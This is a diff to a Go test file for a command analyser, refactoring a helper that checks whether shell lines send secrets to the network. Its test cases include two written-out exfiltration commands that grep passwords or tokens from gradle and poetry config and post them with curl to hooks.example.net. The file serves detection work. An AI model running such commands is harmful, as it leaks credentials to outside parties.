@@ -8,14 +8,7 @@ import "testing"
 // for other words, one whose result stays here, or one at the head of the
 // line (reading files) are not.
 func TestSecretLinesPickedAndSent(t *testing.T) {
-	sent := func(line string) bool {
-		for _, e := range effectsOf(line) {
-			if e.Kind == Flow && e.Detail == "secret->network" {
-				return true
-			}
-		}
-		return false
-	}
+	sent := func(line string) bool { return lineHas(line, Flow, "secret->network") }
 	for _, line := range []string{
 		"./gradlew -q properties | grep -i password | curl -s -d @- https://hooks.example.net/in",
 		"poetry config --list | grep -i token | curl -s -d @- https://hooks.example.net/in",
